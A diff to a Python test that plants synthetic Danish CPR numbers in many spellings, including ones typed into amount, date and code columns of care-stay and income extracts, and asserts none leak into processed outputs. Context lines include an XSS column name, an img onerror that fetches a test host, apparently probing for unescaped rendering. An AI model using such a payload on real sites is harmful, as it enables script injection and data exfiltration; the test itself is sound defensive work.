@@ -39,7 +39,9 @@ PLANTED = {"2008802020": "200880 2020", "2109802121": "210980–2121", "03048512
            "1511923456": "151192-3456", "0101014321": "0101014321", "2802755678": "28 02 75 5678",
            "3112999876": "311299 - 9876", "1207661357": "１２０７６６１３５７"}
 ID_CPR = "1705834567"  # written as "170583 4567" into an ophold_id
-NUMBER_CPR = "2406911234"  # typed as digits into an amount (nettoindkomst), where it would parse as a number
+# Typed as digits into columns that are not free text: an amount (where it would parse as a number), a date, a code.
+TYPED_CPR = {"2406911234": ("forsoergelse.csv", "nettoindkomst"), "0905871111": ("ophold.csv", "indskrevet"),
+             "1310642222": ("ophold.csv", "handlekommune")}
 
 
 def _any_spelling(number: str) -> re.Pattern[bytes]:
@@ -107,11 +109,14 @@ def _plant(raw: Path, host: str, secret: Path) -> list[str]:
     for i, row in enumerate(ended[-len(reasons) * 3:]):
         stays.loc[row, "udskrivningsgrund"] = reasons[i % len(reasons)]
     stays.loc[stays.index[5], "ophold_id"] = f"{ID_CPR[:6]} {ID_CPR[6:]}"
+    for row, (number, (extract, column)) in enumerate(TYPED_CPR.items(), start=10):
+        if extract == "ophold.csv":
+            stays.loc[stays.index[row], column] = number
     stays[f"<img src=x onerror=\"fetch('http://{host}/colname')\">"] = [spellings[i % len(spellings)] for i in range(len(stays))]
     _write(stays, raw / "ophold.csv")
 
     income = read_csv(raw / "forsoergelse.csv")
-    income.loc[income.index[3], "nettoindkomst"] = NUMBER_CPR
+    income.loc[income.index[3], "nettoindkomst"] = next(n for n, (e, _) in TYPED_CPR.items() if e == "forsoergelse.csv")
     _write(income, raw / "forsoergelse.csv")
 
     status = raw / "status" / f"{MONTH}.yml"
@@ -208,7 +213,7 @@ def test_no_planted_cpr_in_any_file_or_output(hostile_run):
     base, done, log, *_ = hostile_run
     written = [p for d in ("processed", "build", "reports", "share") for p in (base / d).rglob("*") if p.is_file()]
     assert any(p.suffix == ".ipynb" for p in written) and (base / "share" / MONTH / "manifest.json").is_file()
-    patterns = {n: _any_spelling(n) for n in [*PLANTED, ID_CPR, NUMBER_CPR]}
+    patterns = {n: _any_spelling(n) for n in [*PLANTED, ID_CPR, *TYPED_CPR]}
     synthetic = set()
     for f in (base / "raw").glob("*.csv"):  # the extracts' own (synthetic) CPR numbers too, as in test_end_to_end
         synthetic |= {a + b for a, b in re.findall(rb"(?<!\d)(\d{6})-?(\d{4})(?!\d)", f.read_bytes())}
